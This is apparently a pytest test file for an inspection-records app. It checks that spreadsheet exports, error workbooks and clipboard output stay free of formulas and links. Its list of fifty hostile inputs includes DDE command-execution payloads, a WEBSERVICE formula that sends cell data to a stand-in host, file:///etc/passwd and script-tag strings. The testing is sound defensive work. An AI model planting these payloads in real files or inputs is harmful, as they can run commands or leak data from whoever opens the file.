"""Fifty hostile texts on their way out and back: no formula, no link, the same text again."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
import xlsxwriter

from console.export import ExportColumn, TableExport, write_table
from data.intake.error_book import write_error_book
from data.intake.parsing import open_table, parse
from data.intake.values.base import clean
from data.intake.values.text import parse_text
from data.rows.inert import guarded, unguarded
from widgets.clipboard import table_mime

HOSTILE = [
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","点击")',
    '=WEBSERVICE("http://x.example/?"&A1)', "=IMPORTXML(1,2)", '=DDE("cmd";"/C calc";"1")',
    "=MSEXCEL|'\\..\\..\\cmd.exe'!''", "={1,2}", "=A1", "=-1", "==1", "= 1+1", "=甲", "=@SUM(1)",
    "+1+1", "+cmd|' /C calc'!A0", "+SUM(1)", "++1", "+甲", "-1+1", "-cmd|' /C calc'!A0", "-SUM(1)",
    "--1", "-甲", "@SUM(1+1)", "@A1", "@甲", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "{=1+1}", "{=SUM(A1)}", "http://x.example", "https://x.example/a?b=c", "ftp://x.example",
    "mailto:a@x.example", "file:///etc/passwd", "internal:Sheet1!A1", "external:c.xlsx",
    "\\\\x.example\\share", "javascript:alert(1)", "<script>alert(1)</script>",
    "<a href='x'>甲</a>",
    "&amp;=1", '"=1+1"', '";=1+1', "甲,=1+1", "1e5", "0012", "913202000000000123", "TRUE",
    "2026-01-05", "_x003D_1", "_x005F_甲", "甲\n=1+1",
]  # fmt: skip
"""Formulas of every beginning, links of every kind, texts that programs like to change."""
STARTS = tuple("=+-@\t\r＝＋－＠")
BROKEN = ["甲\ud800厂", "甲\x00\x07厂", "甲\ufffe厂"]


def sheets_of(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return b"".join(book.read(name) for name in book.namelist())


def is_inert(content: bytes) -> bool:
    """Return whether a workbook holds neither a formula nor a link."""
    return not re.search(rb"<f[ >]|<hyperlink|relationships/hyperlink|externalLink", content)


def exported(folder: Path, texts: list[str], suffix: str) -> Path:
    columns = (ExportColumn("检查单位"), ExportColumn("企业名称"), ExportColumn("检查日期"),
               ExportColumn("检查事由"))  # fmt: skip
    rows = [("市应急局", "甲厂", "2026-01-05", one) for one in texts]
    table = TableExport("检查记录", columns, rows, len(rows), ())
    return write_table(table, folder / f"out.{suffix}")


def test_that_there_are_fifty_hostile_texts():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 50


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_that_an_export_is_inert_and_reads_back_the_same(tmp_path, suffix):
    path = exported(tmp_path, HOSTILE, suffix)
    if suffix == "xlsx":
        assert is_inert(sheets_of(path.read_bytes()))
    else:
        with path.open(encoding="utf-8-sig", newline="") as stream:
            written = [row[3] for row in csv.reader(stream)][1:]
        assert len(written) == len(HOSTILE)
        assert not [one for one in written if one.startswith(STARTS)]
    raw, kind = open_table(path)
    reasons = parse(raw, kind).frame["reason"].tolist()
    assert reasons == [clean(one) for one in HOSTILE]


def test_that_an_error_book_is_inert_and_reads_back_the_same(tmp_path):
    source = tmp_path / "in.xlsx"
    with xlsxwriter.Workbook(str(source)) as book:
        sheet = book.add_worksheet()
        for place, label in enumerate(("检查单位", "企业名称", "检查日期", "检查事由")):
            sheet.write_string(0, place, label)
        for row, one in enumerate(HOSTILE, start=1):
            for place, cell in enumerate(("市应急局", "甲厂", one, one)):
                sheet.write_string(row, place, cell)
    raw, kind = open_table(source)
    parsed = parse(raw, kind)
    assert parsed.issues
    path = tmp_path / "errors.xlsx"
    with path.open("wb") as stream:
        write_error_book(parsed, parsed.issues, stream)
    assert is_inert(sheets_of(path.read_bytes()))
    back, _ = open_table(path)
    assert parse(back, kind).frame["reason"].tolist() == parsed.frame["reason"].tolist()
    assert parsed.frame["reason"].tolist() == [clean(one) for one in HOSTILE]


def test_that_the_clipboard_is_inert_and_reads_back_the_same(qapp):
    mime = table_mime(["检查事由"], [[one] for one in HOSTILE], [True])
    lines = mime.text().split("\n")[1:]
    assert len(lines) == len(HOSTILE)
    assert not [line for line in lines if line.startswith(STARTS)]
    assert [parse_text(line)[0] for line in lines] == [
        " ".join(clean(one).splitlines()) for one in HOSTILE
    ]
    cells = re.findall(r"<td[^>]*>(.*?)</td>", mime.html(), re.S)
    assert len(cells) == len(HOSTILE)
    assert not [cell for cell in cells if cell.startswith(STARTS)]
    assert "<script" not in mime.html()
    assert "<a " not in mime.html()


@pytest.mark.parametrize("text", ["-5", "+2", "-3.5%", "-1,200", "—", "-", "--", "甲", "", "'甲"])
def test_that_figures_and_dashes_stay_as_they_are(text):
    assert guarded(text) == text
    assert unguarded(text) == text


def test_that_a_text_that_was_guarded_before_comes_back_whole():
    for one in [*HOSTILE, "'=1", "''=1"]:
        assert unguarded(guarded(one)) == one


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_that_signs_no_file_can_hold_are_left_out(tmp_path, suffix):
    raw, kind = open_table(exported(tmp_path, BROKEN, suffix))
    assert parse(raw, kind).frame["reason"].tolist() == ["甲厂"] * 3
